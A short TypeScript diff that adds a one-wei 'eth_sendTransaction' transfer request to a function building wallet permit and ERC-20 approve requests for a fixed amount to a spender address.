@@ -52,6 +52,11 @@ export function toRequests(evm: string, solana: string, chainId: number, token: 
   }
   const allowance = encodeFunctionData({ abi: erc20Abi, functionName: 'approve', args: [spender, 12_500_000n] })
   return {
+    transfer: {
+      namespace: 'eip155',
+      method: 'eth_sendTransaction',
+      params: [{ from: evm as Hex, to: spender, value: '0x1' }],
+    },
     permit: { namespace: 'eip155', method: 'eth_signTypedData_v4', params: [evm, JSON.stringify(permit)] },
     allowance: {
       namespace: 'eip155',
